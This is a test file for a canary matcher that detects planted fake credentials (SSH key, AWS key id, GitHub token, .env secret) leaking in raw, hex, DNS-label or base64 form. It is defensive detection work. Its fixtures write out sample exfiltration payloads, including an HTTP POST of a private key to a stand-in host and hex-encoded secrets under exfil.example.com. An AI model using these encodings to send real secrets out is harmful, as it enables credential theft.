import { createHash } from 'node:crypto'
import { CanaryMatcher, WINDOW_CHARS, type Canary } from '../../src/profile/canary-match.js'

// Shaped like what the planter produces: values keep at most four fixed format characters.
const SSH_BODY = 'q8ZPx2mLw+T1nVb7Hc0Kf/3JdYs9RaUe6GtWo4EiNpQz5yXhBj8ClMvDkSuF1r2A7gOIH0nZ'
const AWS_KEY_ID = 'AKIAQ7J2MX4TPLW9ZK3D'
const GITHUB_TOKEN = 'ghs_u7TqW2xZp9LmK4vR8sYbN1cHdF6gJ0aE3oQi'
const ENV_SECRET = 'Xk29fLq0Pz7RmW4tYc8Vn1Bs6Hd3Ju5Ga2Ke9Lp0'
// base64 of bytes that include 0xfb/0xff, so standard and url-safe encodings differ.
const BINARYISH = 'mcp-\u00fb\u00ff\u00fe-behave-\u00fb\u00ffsecret-\u00fe\u00fbtoken'

const canaries: Canary[] = [
  { id: '~/.ssh/id_rsa', value: SSH_BODY },
  { id: '~/.aws/credentials', value: AWS_KEY_ID },
  { id: 'env:GITHUB_TOKEN', value: GITHUB_TOKEN },
  { id: '~/.env', value: ENV_SECRET }
]
const matcher = new CanaryMatcher(canaries)

function pseudoRandomBytes(size: number, seed: string): Buffer {
  const blocks: Buffer[] = []
  for (let i = 0; blocks.length * 32 < size; i++) blocks.push(createHash('sha256').update(`${seed}:${i}`).digest())
  return Buffer.concat(blocks).subarray(0, size)
}

describe('CanaryMatcher: raw and partial leaks', () => {
  it('finds a whole key file sent as an HTTP POST body', () => {
    const file = `-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE${SSH_BODY.slice(0, 51)}\n${SSH_BODY.slice(51)}\n-----END OPENSSH PRIVATE KEY-----\n`
    const payload = `POST /collect HTTP/1.1\r\nHost: 203.0.113.34\r\nContent-Length: ${file.length}\r\n\r\n${file}`
    expect(matcher.scan(Buffer.from(payload))).toMatchObject([{ canary: '~/.ssh/id_rsa', encoding: 'raw' }])
  })

  it('counts any window of 12 characters, not 11', () => {
    expect(WINDOW_CHARS).toBe(12)
    expect(matcher.scan(`k=${ENV_SECRET.slice(20, 32)}&x=1`)).toMatchObject([{ canary: '~/.env', encoding: 'raw' }])
    expect(matcher.scan(`k=${ENV_SECRET.slice(20, 31)}&x=1`)).toMatchObject([])
  })

  it('finds the first 32 bytes after the BEGIN line (public magic plus 13 secret characters)', () => {
    const leaked = `b3BlbnNzaC1rZXktdjE${SSH_BODY}`.slice(0, 32)
    expect(matcher.scan(leaked)).toMatchObject([{ canary: '~/.ssh/id_rsa', encoding: 'raw' }])
  })

  it('finds a leak inside a percent-encoded query string', () => {
    // '+' and '/' split this piece into raw runs of at most 11 characters
    const encoded = encodeURIComponent(SSH_BODY.slice(5, 24))
    expect(encoded).toBe('2mLw%2BT1nVb7Hc0Kf%2F3J')
    expect(matcher.scan(`GET /?d=${encoded} HTTP/1.1`)).toMatchObject([{ canary: '~/.ssh/id_rsa', encoding: 'raw' }])
  })

  it('reports each canary once, raw preferred, in the order the canaries were given', () => {
    const hex = Buffer.from(GITHUB_TOKEN).toString('hex')
    const payload = `${hex} ${ENV_SECRET} ${GITHUB_TOKEN} ${ENV_SECRET} ${AWS_KEY_ID}`
    expect(matcher.scan(payload)).toMatchObject([
      { canary: '~/.aws/credentials', encoding: 'raw' },
      { canary: 'env:GITHUB_TOKEN', encoding: 'raw' },
      { canary: '~/.env', encoding: 'raw' }
    ])
  })

  it('merges several values planted for one file into one canary id', () => {
    const docker = new CanaryMatcher([
      { id: '~/.docker/config.json', value: 'a3E5bXB0NnpoYzpQcVc4elgzTG0yTnY3QnQ1S3kxUmYwSGQ5SnM0R3U2' },
      { id: '~/.docker/config.json', value: 'PqW8zX3Lm2Nv7Bt5Ky1Rf0Hd9Js4Gu6' }
    ])
    expect(docker.scan('pass=PqW8zX3Lm2Nv7Bt5Ky1Rf0Hd9Js4Gu6 auth=a3E5bXB0NnpoYzpQcVc4elgzTG0yTnY3QnQ1S3kxUmYwSGQ5SnM0R3U2')).toMatchObject([
      { canary: '~/.docker/config.json', encoding: 'raw' }
    ])
  })
})

describe('CanaryMatcher: hex', () => {
  it('finds lower- and upper-case hex of a piece of a secret', () => {
    const piece = Buffer.from(AWS_KEY_ID.slice(2, 18))
    expect(matcher.scan(`id=${piece.toString('hex')};`)).toMatchObject([{ canary: '~/.aws/credentials', encoding: 'hex' }])
    expect(matcher.scan(`id=${piece.toString('hex').toUpperCase()};`)).toMatchObject([{ canary: '~/.aws/credentials', encoding: 'hex' }])
  })

  it('finds hex split across DNS labels at an odd digit, as a dotted name', () => {
    const hex = Buffer.from(`SECRET_KEY=${ENV_SECRET}`.slice(0, 31)).toString('hex')
    const name = `${hex.slice(0, 31)}.${hex.slice(31)}.exfil.example.com`
    expect(matcher.scan(name)).toMatchObject([{ canary: '~/.env', encoding: 'hex' }])
  })

  it('finds the shortest joinable hex group (24 digits, one separator) at every alignment to the samples, among words of a-f letters', () => {
    const hex = Buffer.from(ENV_SECRET.slice(3, 3 + WINDOW_CHARS)).toString('hex')
    for (const cut of [2, 7, 12, 17, 22]) {
      const labels = `${hex.slice(0, cut)}.${hex.slice(cut)}`
      for (let shift = 0; shift < 30; shift++) {
        // "cafe bead" text around it passes single samples, so the group must be told apart from it
        const payload = Buffer.from(`${'cafe bead face '.repeat(3).slice(0, shift)} ${labels} decade facade`)
        expect(matcher.scan(payload)).toMatchObject([{ canary: '~/.env', encoding: 'hex' }])
      }
    }
  })

  it('finds hex labels in a DNS query as sent on the wire (length bytes between labels)', () => {
    const hex = Buffer.from(ENV_SECRET.slice(0, 24)).toString('hex')
    const label = (text: string): Buffer => Buffer.concat([Buffer.from([text.length]), Buffer.from(text)])
    const query = Buffer.concat([
      Buffer.from([0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]),
      label(hex.slice(0, 25)),
      label(hex.slice(25)),
      label('example'),
      label('com'),
      Buffer.from([0, 0, 1, 0, 1])
    ])
    expect(matcher.scan(query)).toMatchObject([{ canary: '~/.env', encoding: 'hex' }])
  })
})

describe('CanaryMatcher: base64', () => {
  it.each([0, 1, 2])('finds a secret inside a larger base64 blob at byte offset %i mod 3', (pad) => {
    const blob = `${'x'.repeat(30 + pad)}token=${GITHUB_TOKEN}&more=stuff-after-the-token`
    const payload = JSON.stringify({ data: Buffer.from(blob).toString('base64') })
    expect(matcher.scan(payload)).toMatchObject([{ canary: 'env:GITHUB_TOKEN', encoding: 'base64' }])
  })

  it.each(['', 'a', 'ab', 'abc'])('finds base64 glued to %j (the run starts mid-quantum)', (glued) => {
    const encoded = Buffer.from(`::${ENV_SECRET.slice(5, 25)}::`).toString('base64')
    expect(matcher.scan(`Authorization: Basic ${glued}${encoded}`)).toMatchObject([{ canary: '~/.env', encoding: 'base64' }])
  })

  it('finds url-safe base64', () => {
    const binaryish = new CanaryMatcher([{ id: 'env:BINARYISH', value: BINARYISH }])
    const urlSafe = Buffer.from(BINARYISH, 'latin1').toString('base64url')
    expect(urlSafe).toMatch(/[-_]/)
    expect(binaryish.scan(`https://collector.example.com/c?p=${urlSafe}`)).toMatchObject([{ canary: 'env:BINARYISH', encoding: 'base64' }])
    const standard = Buffer.from(BINARYISH, 'latin1').toString('base64')
    expect(standard).toMatch(/[+/]/)
    expect(binaryish.scan(`p=${standard}`)).toMatchObject([{ canary: 'env:BINARYISH', encoding: 'base64' }])
  })
})

describe('CanaryMatcher: no false hits', () => {
  it('ignores format text every planted file of a kind shares', () => {
    const publicParts = [
      '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE',
      '[default]\naws_access_key_id = AKIA',
      'GITHUB_TOKEN=ghs_',
      'SECRET_KEY='
    ].join('\n')
    expect(matcher.scan(publicParts)).toMatchObject([])
    expect(matcher.scan(Buffer.from(publicParts).toString('hex'))).toMatchObject([])
    expect(matcher.scan(Buffer.from(publicParts).toString('base64'))).toMatchObject([])
  })

  it('drops windows that two canaries share, and near-constant windows', () => {
    const shared = 'sk-ant-api03-'
    const pair = new CanaryMatcher([
      { id: 'env:A', value: `${shared}Qm7Xv2Lp9Rt4` },
      { id: 'env:B', value: `${shared}Zc8Nw3Hs6Jd1` },
      { id: 'env:C', value: 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' }
    ])
    expect(pair.scan(`key ${shared} key`)).toMatchObject([])
    expect(pair.scan('AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')).toMatchObject([])
    expect(pair.scan(`key ${shared}Zc8Nw3Hs6J`)).toMatchObject([{ canary: 'env:B', encoding: 'raw' }])
  })

  it('finds nothing in a megabyte of random bytes, nor in its hex and base64', () => {
    const noise = pseudoRandomBytes(1 << 20, 'noise')
    expect(matcher.scan(noise)).toMatchObject([])
    expect(matcher.scan(noise.subarray(0, 1 << 16).toString('hex'))).toMatchObject([])
    expect(matcher.scan(noise.subarray(0, 1 << 16).toString('base64'))).toMatchObject([])
  })

  it('matches nothing when there are no canaries', () => {
    expect(new CanaryMatcher([]).scan(GITHUB_TOKEN)).toMatchObject([])
  })
})

describe('CanaryMatcher: the sampled scan misses no position', () => {
  // The scan looks at one q-gram every few bytes and checks a candidate's first and last q-grams before
  // comparing: a window must be found wherever it starts, at the payload's start and end too.
  it('finds a window raw, as hex and as base64 at every offset and with every amount of trailing data', () => {
    const piece = Buffer.from(ENV_SECRET.slice(3, 3 + WINDOW_CHARS))
    for (const [encoding, text] of [
      ['raw', piece.toString('latin1')],
      ['hex', piece.toString('hex')],
      ['base64', piece.toString('base64')]
    ] as const) {
      for (let lead = 0; lead < 16; lead++)
        for (const trail of [0, 1, 7, 13]) {
          const payload = Buffer.from(`${'-'.repeat(lead)}${text}${'.'.repeat(trail)}`)
          expect(matcher.scan(payload)).toMatchObject([{ canary: '~/.env', encoding }])
        }
    }
  })

  it('finds a value shorter than a window in data exactly its length, and nothing in shorter data', () => {
    const short = new CanaryMatcher([{ id: 'env:PIN', value: 'Zq7wK2' }])
    expect(short.scan(Buffer.from('Zq7wK2'))).toMatchObject([{ canary: 'env:PIN', encoding: 'raw' }])
    expect(short.scan(Buffer.from('Zq7wK'))).toMatchObject([])
    expect(matcher.scan(Buffer.from(ENV_SECRET.slice(0, WINDOW_CHARS)))).toMatchObject([{ canary: '~/.env', encoding: 'raw' }])
    expect(matcher.scan(Buffer.from(ENV_SECRET.slice(0, WINDOW_CHARS - 1)))).toMatchObject([])
  })
})

describe('CanaryMatcher: a needle among many payloads', () => {
  // How fast this is belongs to `npm run bench` (trace parser with matching on), not to a timed test.
  it('finds the one slice of a key among 3000 random payloads of 4 KiB (base64, hex, binary) and nothing else', () => {
    const body = pseudoRandomBytes(1950, 'ssh').toString('base64')
    const big = new CanaryMatcher([...canaries, { id: '~/.ssh/id_ed25519', value: body }])
    const payloads: string[] = []
    for (let i = 0; i < 3000; i++) {
      const bytes = pseudoRandomBytes(3072, `p${i}`)
      payloads.push(
        i % 3 === 0 ? bytes.toString('base64').slice(0, 4096) : i % 3 === 1 ? bytes.toString('hex').slice(0, 4096) : bytes.toString('latin1').slice(0, 4096)
      )
    }
    payloads[1500] = `x${body.slice(700, 720)}x`
    const hits = payloads.flatMap((payload) => big.scan(payload))
    expect(hits).toMatchObject([{ canary: '~/.ssh/id_ed25519', encoding: 'raw' }])
  })
})

describe('CanaryMatcher: one index for tokens and canary files', () => {
  const KEY_FILE = `-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE${SSH_BODY}\n-----END OPENSSH PRIVATE KEY-----\n`
  const OTHER_KEY_FILE = `-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE${ENV_SECRET}\n-----END OPENSSH PRIVATE KEY-----\n`
  const files: Canary[] = [
    { id: '~/.ssh/id_rsa', value: KEY_FILE },
    { id: '~/.ssh/id_ed25519', value: OTHER_KEY_FILE }
  ]
  const index = new CanaryMatcher([{ id: 'env:GITHUB_TOKEN', value: GITHUB_TOKEN }], files)
  const everyFile = (): boolean => true

  it.each([0, 1, 2])('finds a 16-byte piece of a read file inside a larger base64 blob at byte offset %i mod 3', (pad) => {
    const piece = KEY_FILE.slice(100, 116)
    expect(piece).toHaveLength(16)
    const blob = Buffer.from(`${'z'.repeat(40 + pad)}${piece}${'q'.repeat(40)}`).toString('base64')
    expect(index.scan(`{"data":"${blob}"}`, everyFile)).toMatchObject([{ canary: '~/.ssh/id_rsa', encoding: 'base64' }])
  })

  it('finds a piece of a read file in base64url', () => {
    const binary: Canary = { id: '~/.binary', value: BINARYISH }
    const urlSafe = Buffer.from(`padding${BINARYISH.slice(2, 22)}`, 'latin1').toString('base64url')
    expect(urlSafe).toMatch(/[-_]/)
    expect(new CanaryMatcher([], [binary]).scan(`GET /c?p=${urlSafe} HTTP/1.1`, everyFile)).toMatchObject([{ canary: '~/.binary', encoding: 'base64' }])
  })

  it('finds upper-case hex of a token split into 7-character DNS labels', () => {
    const hex = Buffer.from(GITHUB_TOKEN.slice(4, 20)).toString('hex').toUpperCase()
    const name = `${labels(hex, 7)}.t.example`
    expect(name.split('.')[0]).toHaveLength(7)
    expect(index.scan(name)).toMatchObject([{ canary: 'env:GITHUB_TOKEN', encoding: 'hex' }])
  })

  it('counts a header two read files share for each of them, and for neither when they were not read', () => {
    const header = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE'
    expect(index.scan(header, everyFile)).toMatchObject([
      { canary: '~/.ssh/id_rsa', encoding: 'raw' },
      { canary: '~/.ssh/id_ed25519', encoding: 'raw' }
    ])
    expect(index.scan(header, (id) => id === '~/.ssh/id_ed25519')).toMatchObject([{ canary: '~/.ssh/id_ed25519', encoding: 'raw' }])
    expect(index.scan(header, () => false)).toMatchObject([])
    expect(index.scan(header)).toMatchObject(index.scan(header, everyFile))
  })

  it('reports a token found in a file it was planted in once, in the best encoding', () => {
    const both = new CanaryMatcher([{ id: '~/.env', value: ENV_SECRET }], [{ id: '~/.env', value: `SECRET_KEY=${ENV_SECRET}\n` }])
    const payload = `${Buffer.from('SECRET_KEY=').toString('hex')} ${ENV_SECRET}`
    expect(both.scan(payload, everyFile)).toMatchObject([{ canary: '~/.env', encoding: 'raw' }])
    expect(both.hasFile('~/.env')).toBe(true)
    expect(both.hasFile('~/.netrc')).toBe(false)
  })

  it('does not count a window two tokens share, even as hex or base64', () => {
    const shared = 'sk-ant-api03-'
    const pair = new CanaryMatcher([
      { id: 'env:A', value: `${shared}Qm7Xv2Lp9Rt4` },
      { id: 'env:B', value: `${shared}Zc8Nw3Hs6Jd1` }
    ])
    for (const payload of [shared, Buffer.from(shared).toString('hex'), Buffer.from(`x${shared}`).toString('base64')])
      expect([payload, pair.scan(payload)]).toMatchObject([payload, []])
  })

  it('finds nothing in a megabyte of payload that holds no canary (text, binary, hex, base64)', () => {
    const noise = pseudoRandomBytes(1 << 18, 'quiet')
    const words = Array.from({ length: 40000 }, (_, i) => `${['config', 'index', 'token', 'session', 'cache'][i % 5]}${i % 3 === 0 ? ' ' : ''}`).join('')
    const megabyte = Buffer.concat([noise, Buffer.from(noise.toString('hex')), Buffer.from(noise.toString('base64')), Buffer.from(words)]).subarray(0, 1 << 20)
    expect(megabyte.length).toBe(1 << 20)
    expect(index.scan(megabyte, everyFile)).toMatchObject([])
  })
})

describe('CanaryMatcher: which bytes of the canary a hit holds', () => {
  const KEY_FILE = `-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE${SSH_BODY}\n${ENV_SECRET}\n-----END OPENSSH PRIVATE KEY-----\n`
  const index = new CanaryMatcher([{ id: 'env:GITHUB_TOKEN', value: GITHUB_TOKEN }], [{ id: '~/.ssh/id_rsa', value: KEY_FILE }])
  const everyFile = (): boolean => true

  it('gives the offsets of a raw piece inside the file, the whole contiguous run and no more', () => {
    const piece = KEY_FILE.slice(40, 101)
    expect(index.scan(`POST /u HTTP/1.1\r\n\r\n\u0001${piece}\u0001`, everyFile)).toEqual([
      { canary: '~/.ssh/id_rsa', encoding: 'raw', bytes: [40, 101], within: 'file', of: KEY_FILE.length }
    ])
    // the first 64 bytes: the fixed header and the start of the body
    expect(index.scan(Buffer.from(KEY_FILE.slice(0, 64)), everyFile)).toMatchObject([{ bytes: [0, 64] }])
    expect(index.scan(Buffer.from(KEY_FILE), everyFile)).toMatchObject([{ bytes: [0, KEY_FILE.length], of: KEY_FILE.length }])
  })

  it('gives [0, 16) for the hex of the first 16 bytes as a DNS label', () => {
    const label = Buffer.from(KEY_FILE.slice(0, 16)).toString('hex')
    expect(label).toHaveLength(32)
    expect(index.scan(`${label}.x.example`, everyFile)).toEqual([
      { canary: '~/.ssh/id_rsa', encoding: 'hex', bytes: [0, 16], within: 'file', of: KEY_FILE.length }
    ])
  })

  it('gives the hex range across labels split at an odd digit', () => {
    const hex = Buffer.from(KEY_FILE.slice(50, 90)).toString('hex')
    expect(index.scan(`${labels(hex, 25)}.x.example`, everyFile)).toMatchObject([{ encoding: 'hex', bytes: [50, 90] }])
  })

  it.each([0, 1, 2])('gives the bytes of a piece inside a base64 blob at byte offset %i mod 3: from its first whole group to its end', (pad) => {
    const before = 40 + pad
    const blob = Buffer.from(`${'z'.repeat(before)}${KEY_FILE.slice(100, 160)}${'q'.repeat(40)}`).toString('base64')
    const firstGroup = Math.ceil(before / 3) * 3 - before
    expect(index.scan(`{"data":"${blob}"}`, everyFile)).toEqual([
      { canary: '~/.ssh/id_rsa', encoding: 'base64', bytes: [100 + firstGroup, 160], within: 'file', of: KEY_FILE.length }
    ])
  })

  it('places a token planted in a file at its offset in the file, and a canary variable in its own value', () => {
    const tokenOnly = new CanaryMatcher([{ id: '~/.ssh/id_rsa', value: ENV_SECRET }], [{ id: '~/.ssh/id_rsa', value: KEY_FILE }])
    const at = KEY_FILE.indexOf(ENV_SECRET)
    // the file was not read: the token counts on its own, still placed in the file
    expect(tokenOnly.scan(`k=${ENV_SECRET.slice(3, 30)}&`, () => false)).toEqual([
      { canary: '~/.ssh/id_rsa', encoding: 'raw', bytes: [at + 3, at + 30], within: 'file', of: KEY_FILE.length }
    ])
    expect(index.scan(`t=${GITHUB_TOKEN}&`)).toEqual([
      { canary: 'env:GITHUB_TOKEN', encoding: 'raw', bytes: [0, GITHUB_TOKEN.length], within: 'value', of: GITHUB_TOKEN.length }
    ])
  })

  it('places a token the file holds only split across lines in its own value', () => {
    const wrapped = `-----BEGIN OPENSSH PRIVATE KEY-----\n${SSH_BODY.slice(0, 40)}\n${SSH_BODY.slice(40)}\n-----END OPENSSH PRIVATE KEY-----\n`
    const split = new CanaryMatcher([{ id: '~/.ssh/id_rsa', value: SSH_BODY }], [{ id: '~/.ssh/id_rsa', value: wrapped }])
    expect(split.scan(SSH_BODY.slice(30, 60), () => false)).toEqual([
      { canary: '~/.ssh/id_rsa', encoding: 'raw', bytes: [30, 60], within: 'value', of: SSH_BODY.length }
    ])
    // once the file was read, the whole file sent is placed in the file: the widest piece
    expect(split.scan(wrapped, everyFile)).toEqual([
      { canary: '~/.ssh/id_rsa', encoding: 'raw', bytes: [0, wrapped.length], within: 'file', of: wrapped.length }
    ])
  })

  it('reports the widest piece when a payload holds several pieces of one file', () => {
    expect(KEY_FILE.length).toBeGreaterThan(180)
    const payload = `${KEY_FILE.slice(150, 170)} | ${KEY_FILE.slice(60, 90)} | ${KEY_FILE.slice(120, 140)}`
    expect(index.scan(payload, everyFile)).toMatchObject([{ encoding: 'raw', bytes: [60, 90] }])
  })
})

function labels(encoded: string, size: number): string {
  return encoded.match(new RegExp(`.{1,${size}}`, 'g'))!.join('.')
}
